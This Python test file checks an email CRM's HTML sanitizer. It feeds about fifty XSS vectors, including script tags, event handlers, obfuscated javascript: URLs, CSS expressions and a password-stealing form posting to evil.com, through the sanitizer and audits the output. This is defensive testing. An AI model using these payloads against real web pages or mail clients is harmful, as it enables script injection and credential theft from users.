from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from inboxcrm.mail.sanitize import html_to_text, sanitize_html

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.com/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<body onload="alert(1)">hi</body>',
    '<div onmouseover="alert(1)" style="width:100%">hover</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'http://evil.com/x.css';</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="background: url(http://tracker.com/p.gif)">x</div>',
    '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</div>',
    '<div style="width: ex\\pression(alert(1))">x</div>',
    '<div style="color: red; background:u\\72l(http://t.com/x)">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.com">',
    '<form action="https://evil.com/steal"><input name="password"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe src="https://evil.com"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<base href="https://evil.com/">',
    '<object data="https://evil.com/x.swf"></object>',
    '<embed src="https://evil.com/x.swf">',
    '<link rel="stylesheet" href="https://evil.com/x.css">',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://ok.com" target="_self" onclick="alert(1)">ok</a>',
    '<img src="https://t.com/p.gif" srcset="https://t.com/a.gif 2x">',
    '<img src="//evil.com/pixel.gif">',
    '<table background="https://t.com/bg.gif"><tr><td>x</td></tr></table>',
    '<a href="#" id="x" name="y">x</a><input autofocus onfocus="alert(1)">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<div id="a" class="x" data-x="javascript:alert(1)">data attrs</div>',
]

_ALLOWED_SCHEMES = ("http:", "https:", "mailto:", "tel:", "cid:")
_SAFE_DATA_IMAGE = re.compile(r"^data:image/(png|gif|jpe?g|webp|bmp);base64,", re.I)
_FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "meta",
    "base", "link", "svg", "math", "frame", "frameset", "applet", "template", "source",
    "video", "audio", "textarea", "select", "noscript",
}  # fmt: skip


class _Audit(HTMLParser):
    """Everything an attacker could use, read the way a browser would read it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name in ("srcdoc", "formaction", "srcset", "background"):
                self.problems.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "data-remote-src"):
                squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if not (squashed.startswith(_ALLOWED_SCHEMES) or _SAFE_DATA_IMAGE.match(value)):
                    self.problems.append(f"{tag}[{name}]={value!r}")
            if name == "style" and re.search(r"url|expression|\\|behavior|binding|@", value, re.I):
                self.problems.append(f"{tag}[style]={value!r}")
            if name == "target" and value != "_blank":
                self.problems.append(f"{tag}[target]={value!r}")


def assert_harmless(html: str) -> None:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    assert audit.problems == [], html
    assert "alert(" not in html.replace("&lt;", "<") or "<" not in html, html


@pytest.mark.parametrize("vector", XSS)
@pytest.mark.parametrize("allow_remote_images", [False, True])
def test_xss_vectors_are_harmless(vector: str, allow_remote_images: bool) -> None:
    clean = sanitize_html(vector, allow_remote_images=allow_remote_images)
    assert_harmless(clean)
    assert "<script" not in clean.lower()
    assert "javascript" not in clean.lower()


def test_sanitized_html_can_be_sanitized_again_safely() -> None:
    for vector in XSS:
        twice = sanitize_html(sanitize_html(vector, allow_remote_images=False), False)
        assert_harmless(twice)


def test_formatting_tables_and_links_are_kept() -> None:
    html = (
        '<div style="color: #333; font-family: Arial, sans-serif"><h2>Offer</h2>'
        "<p>Dear <b>Ann</b>, <i>see</i> <u>below</u>:</p><ul><li>one</li></ul>"
        '<table border="0" cellpadding="4"><tr><td colspan="2" align="right">9 €</td></tr>'
        '</table><font color="red">old school</font><blockquote>quoted</blockquote>'
        '<a href="https://acme.com/pricing">pricing</a> <a href="mailto:ann@acme.com">mail</a>'
        "</div>"
    )
    clean = sanitize_html(html, allow_remote_images=False)
    for kept in (
        '<div style="color: #333; font-family: Arial, sans-serif">',
        "<h2>Offer</h2>",
        "<b>Ann</b>",
        "<li>one</li>",
        '<td colspan="2" align="right">9 €</td>',
        '<font color="red">old school</font>',
        "<blockquote>quoted</blockquote>",
        '<a href="https://acme.com/pricing" target="_blank" rel="noopener noreferrer nofollow">',
        '<a href="mailto:ann@acme.com" target="_blank" rel="noopener noreferrer nofollow">',
    ):
        assert kept in clean


def test_remote_images_wait_for_the_viewer() -> None:
    html = '<p><img src="https://cdn.acme.com/logo.png?a=1&amp;b=2" alt="Acme" width="80"></p>'
    blocked = sanitize_html(html, allow_remote_images=False)
    assert "src=" not in blocked.replace("data-remote-src=", "")
    assert 'data-remote-src="https://cdn.acme.com/logo.png?a=1&amp;b=2"' in blocked
    assert 'class="inboxcrm-blocked-image"' in blocked
    assert 'alt="Acme"' in blocked
    allowed = sanitize_html(html, allow_remote_images=True)
    assert '<img src="https://cdn.acme.com/logo.png?a=1&amp;b=2" alt="Acme" width="80">' in allowed


def test_an_email_cannot_forge_the_remote_image_attribute() -> None:
    html = '<img data-remote-src="javascript:alert(1)" class="inboxcrm-blocked-image">'
    assert sanitize_html(html, allow_remote_images=False) == "<img>"


def test_inline_and_small_data_images_are_kept() -> None:
    html = '<img src="cid:logo@acme"><img src="data:image/png;base64,iVBORw0KGgo=">'
    assert sanitize_html(html, allow_remote_images=False) == html


def test_html_to_text() -> None:
    html = (
        "<html><head><title>t</title><style>p{color:red}</style></head><body>"
        "<p>Hi&nbsp;Ann &amp; team,</p><p>Line<br>break</p>"
        "<table><tr><td>Plan</td><td>9 €</td></tr></table>"
        "<script>alert(1)</script><div>   spaced    out   </div></body></html>"
    )
    assert html_to_text(html) == "Hi Ann & team,\n\nLine\nbreak\n\nPlan 9 €\n\nspaced out"


def test_html_to_text_survives_garbage() -> None:
    assert "unclosed" in html_to_text("<p <<<>>> </ unclosed <!-- x")
    assert html_to_text("") == ""
